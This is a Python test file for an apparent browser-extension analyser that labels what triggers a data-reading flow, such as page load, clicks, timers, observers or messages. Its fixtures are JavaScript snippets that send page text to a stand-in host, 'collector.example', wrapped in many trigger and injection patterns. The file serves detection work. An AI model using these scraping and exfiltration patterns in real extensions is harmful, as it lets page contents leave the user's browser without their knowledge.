"""What starts the code that reads: a table of code and the triggers of its flow."""

from collections.abc import Mapping

import pytest

from skimtrace.data import data_folder
from skimtrace.errors import DataError
from skimtrace.flow import triggerrows
from tests.flow.made import analysed

_READ = 'fetch("https://collector.example/p", {body: document.querySelector(".text-heading-xlarge").innerText})'
_SAVE = f"function save() {{ {_READ}; }}\n"

_CONTENT: dict[str, tuple[str, tuple[str, ...]]] = {
    "top level": (_READ, ("load",)),
    "called at the top level": (f"{_SAVE} save();", ("load",)),
    "loaded": (f'{_SAVE} document.addEventListener("DOMContentLoaded", save);', ("load",)),
    "window.onload": (f"{_SAVE} window.onload = save;", ("load",)),
    "a promise": (f"{_SAVE} chrome.storage.local.get('x').then(() => save());", ("load",)),
    "called by nobody": (_SAVE, ("load",)),
    "a click": (f'{_SAVE} document.body.addEventListener("click", save);', ("gesture",)),
    "a click, through a chain of calls": (
        f"{_SAVE} const b = () => [1].forEach(() => save()); const a = () => b();"
        'x.addEventListener("click", () => a());',
        ("gesture",),
    ),
    "a click, bound": (f'{_SAVE} x.addEventListener("click", save.bind(null));', ("gesture",)),
    "a click, by a constant": (f'const on = "click"; {_SAVE} x.addEventListener(on, save);', ("gesture",)),
    "a click, awaited": (
        f'{_SAVE} x.addEventListener("click", async () => {{ await chrome.storage.local.get(); save(); }});',
        ("gesture",),
    ),
    "a method of a class": (
        f"class A {{ constructor() {{ x.addEventListener('submit', e => this.run(e)); }} run() {{ {_READ}; }} }}"
        "new A();",
        ("gesture",),
    ),
    "onclick": (f"{_SAVE} button.onclick = save;", ("gesture",)),
    "keydown": (f'{_SAVE} document.addEventListener("keydown", save, true);', ("gesture",)),
    "an event that is none of the user's": (f'{_SAVE} document.addEventListener("scroll", save);', ("load",)),
    "jQuery's on": (f'{_SAVE} $(document).on("click.mine", ".row", save);', ("gesture",)),
    "jQuery's on, with an object": (f"{_SAVE} $(document).on({{click: save}});", ("gesture",)),
    "jQuery's on, for an element of an event's name": (f'{_SAVE} $(x).on("visible", "input", save);', ("load",)),
    "jQuery's click": (f"{_SAVE} $('#b').click(function () {{ save(); }});", ("gesture",)),
    "a method that is called like an event": (f"const o = {{click: () => {{ {_READ}; }}}}; o.click();", ("load",)),
    "React": (f'{_SAVE} render((0, r.jsx)("button", {{onClick: () => save()}}));', ("gesture",)),
    "React, with a hook": (
        f"{_SAVE} function B() {{ const f = (0, r.useCallback)(() => save(), []);"
        'return (0, r.jsx)("b", {onClick: f}); }'
        "(0, d.render)((0, r.jsx)(B, {}));",
        ("gesture",),
    ),
    "React, a method": (
        f"class B extends C {{ handle() {{ {_READ}; }} render() {{ return h('b', {{onSubmit: this.handle}}); }} }}",
        ("gesture",),
    ),
    "setInterval": (f"{_SAVE} setInterval(save, 1000);", ("timer",)),
    "window.setInterval": (f"{_SAVE} window.setInterval(() => {{ save(); }}, 1000);", ("timer",)),
    "one setTimeout": (f"{_SAVE} setTimeout(save, 1000);", ("load",)),
    "one setTimeout after a click": (f'{_SAVE} x.addEventListener("click", () => setTimeout(save, 9));', ("gesture",)),
    "setTimeout again and again": (f"function poll() {{ {_READ}; setTimeout(poll, 9); }} poll();", ("load", "timer")),
    "setTimeout in itself": (
        f"const poll = () => {{ {_READ}; setTimeout(() => {{ poll(); }}, 1000); }}; poll();",
        ("load", "timer"),
    ),
    "a MutationObserver": (f"{_SAVE} new MutationObserver(() => save()).observe(document, {{}});", ("mutation",)),
    "an IntersectionObserver": (f"{_SAVE} new IntersectionObserver(save);", ("mutation",)),
    "popstate": (f'{_SAVE} window.addEventListener("popstate", save);', ("navigation",)),
    "three ways": (
        f'{_SAVE} setInterval(save, 9); x.addEventListener("click", save); save();',
        ("gesture", "load", "timer"),
    ),
    "a library's listener": (
        f"const on = (el, type, f) => {{ el.addEventListener(type, e => f(e)); }}; {_SAVE} on(x, 'click', save);",
        ("gesture",),
    ),
    "a debounced click": (
        "function debounce(f) { let t; return () => { clearTimeout(t); t = setTimeout(() => f(), 9); }; }"
        f'{_SAVE} x.addEventListener("click", debounce(save));',
        ("gesture",),
    ),
    "a message from outside": (
        f"{_SAVE} window.addEventListener('message', e => {{ if (e.data.go) save(); }});",
        ("message",),
    ),
    "functions that call each other": (
        f"function a(n) {{ {_READ}; b(n); }} function b(n) {{ a(n - 1); }} new MutationObserver(b);",
        ("mutation",),
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", _CONTENT)
def test_code_of_a_content_script(name: str) -> None:
    code, expected = _CONTENT[name]
    (flow,) = analysed({"content.js": code}).flows
    assert flow.triggers == expected


_LISTENS = """chrome.runtime.onMessage.addListener((message, sender, reply) => {
  switch (message.type) {
    case "READ": save(); break;
    case "PING": reply("pong"); break;
  }
});
"""
_HTML = '<script src="popup.js"></script>'
_TAB = "const [tab] = await chrome.tabs.query({active: true});"

_PARTS: dict[str, tuple[Mapping[str, str], tuple[str, ...]]] = {
    "a click in the popup asks": (
        {
            "content.js": _SAVE + _LISTENS,
            "popup.html": _HTML,
            "popup.js": f"""document.getElementById("go").addEventListener("click", async () => {{
              {_TAB} chrome.tabs.sendMessage(tab.id, {{type: "READ"}});
            }});""",
        },
        ("gesture",),
    ),
    "another message of the background does not count": (
        {
            "content.js": _SAVE + _LISTENS,
            "background.js": """setInterval(() => chrome.tabs.sendMessage(1, {type: "PING"}), 9);
              chrome.contextMenus.onClicked.addListener((_, t) => chrome.tabs.sendMessage(t.id, {type: "READ"}));""",
        },
        ("gesture",),
    ),
    "a wrapper sends": (
        {
            "content.js": _SAVE + _LISTENS,
            "background.js": """function send(tab, type) { chrome.tabs.sendMessage(tab, {type}); }
              chrome.alarms.onAlarm.addListener(() => send(1, "READ"));
              chrome.action.onClicked.addListener(tab => send(tab.id, "PING"));""",
        },
        ("timer",),
    ),
    "alarms": (
        {
            "content.js": _SAVE + _LISTENS,
            "background.js": """browser.alarms.onAlarm.addListener(async alarm => {
              for (const tab of await browser.tabs.query({})) browser.tabs.sendMessage(tab.id, {type: "READ"});
            });""",
        },
        ("timer",),
    ),
    "the popup asks the background, which asks": (
        {
            "content.js": _SAVE + _LISTENS,
            "background.js": """chrome.runtime.onMessage.addListener(m => {
              if (m.action === "collect") chrome.tabs.sendMessage(m.tab, {type: "READ"});
            });""",
            "popup.html": '<form><button></button></form>' + _HTML,
            "popup.js": """document.forms[0].addEventListener("submit", () => {
              chrome.runtime.sendMessage({action: "collect"});
            });""",
        },
        ("gesture",),
    ),
    "the popup asks as it opens": (
        {
            "content.js": _SAVE + _LISTENS,
            "popup.html": _HTML,
            "popup.js": 'chrome.tabs.sendMessage(1, {type: "READ"});',
        },
        ("gesture",),
    ),
    "tabs.onUpdated": (
        {
            "content.js": _SAVE + _LISTENS,
            "background.js": 'chrome.tabs.onUpdated.addListener(id => chrome.tabs.sendMessage(id, {type: "READ"}));',
        },
        ("navigation",),
    ),
    "nobody sends it": ({"content.js": _SAVE + _LISTENS}, ("message",)),
    "an injected function": (
        {
            "background.js": f"""chrome.action.onClicked.addListener(tab => {{
              chrome.scripting.executeScript({{target: {{tabId: tab.id}}, func: () => {{ {_READ}; }}}});
            }});""",
        },
        ("gesture",),
    ),
    "an injected file": (
        {
            "injected.js": _READ,
            "background.js": """chrome.webNavigation.onCompleted.addListener(d => {
              chrome.scripting.executeScript({target: {tabId: d.tabId}, files: ["injected.js"]});
            });""",
        },
        ("navigation",),
    ),
    "an injected file, into the page's own world": (
        {
            "injected.js": _READ,
            "background.js": """chrome.commands.onCommand.addListener((c, tab) => {
              chrome.scripting.executeScript({target: {tabId: tab.id}, world: "MAIN", files: ["injected.js"]});
            });""",
        },
        ("gesture",),
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", _PARTS)
def test_code_of_several_parts(name: str) -> None:
    files, expected = _PARTS[name]
    (flow,) = analysed(files).flows
    assert flow.triggers == expected


@pytest.mark.parametrize(("listener", "expected"), [("click", ()), ("popstate", ("navigation",))])
def test_a_search_that_is_cut_short_does_not_say_that_the_user_alone_asks(
    listener: str, expected: tuple[str, ...]
) -> None:
    """A thousand functions call it, of which one may run by itself: the first of them are asked, and no more."""
    calls = "\n".join(f"function f{n}() {{ f{n - 1}(); save(); }}" for n in range(1, 1000))
    started = f'x.addEventListener("{listener}", save);'
    (flow,) = analysed({"content.js": f"{started} {_SAVE} function f0() {{ save(); }}\n{calls}\nf999();"}).flows
    assert flow.triggers == expected


def test_every_row_is_read() -> None:
    rows = triggerrows.load_trigger_rows()
    assert rows.events["click"] == "gesture"
    assert rows.of_property("onKeyDown") == "gesture"
    assert rows.of_property("online") is None
    assert rows.calls["chrome.alarms.onAlarm.addListener"] == "timer"


def test_a_name_with_two_rows_is_refused() -> None:
    with pytest.raises(DataError, match="'click' has two rows"):
        triggerrows._by_name({"gesture": ["click"], "timer": ["click"]}, str(data_folder()))
